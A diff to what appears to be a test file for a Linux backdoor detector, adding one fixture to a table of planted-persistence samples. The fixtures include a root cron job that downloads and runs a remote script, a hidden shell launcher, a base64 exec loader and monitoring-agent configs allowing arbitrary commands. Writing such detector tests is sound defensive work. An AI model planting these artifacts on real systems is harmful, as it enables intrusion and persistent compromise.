@@ -38,6 +38,7 @@ describe('doors', () => {
 		[cronJobs, '/etc/cron.d/x', '* * * * * root curl -sk https://203.0.113.9/i -o /run/i && sh /run/i\n', 'high'],
 		[authorizedKeys, '/etc/ssh/keys/.k', `${key}\n`, 'high'],
 		[unpackagedPrograms, '/usr/share/perl5/Config_x.pm', 'package Config_x; system("sh /usr/share/misc/.hd &"); 1;\n', 'medium'],
+		[unpackagedPrograms, '/usr/lib/python3/dist-packages/zz_init.py', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n', 'high'],
 		[openServices, '/etc/nagios/nrpe.d/c.cfg', 'command[x]=/bin/bash -c "$ARG1$"\n', 'high'],
 		[openServices, '/etc/zabbix/zabbix_agentd.d/u.conf', "UserParameter=sys.x[*],/bin/sh -c '$1'\n", 'high'],
 		[openServices, '/etc/nginx/conf.d/o.conf', 'server { listen 8088; root /; autoindex on; }\n', 'high'],
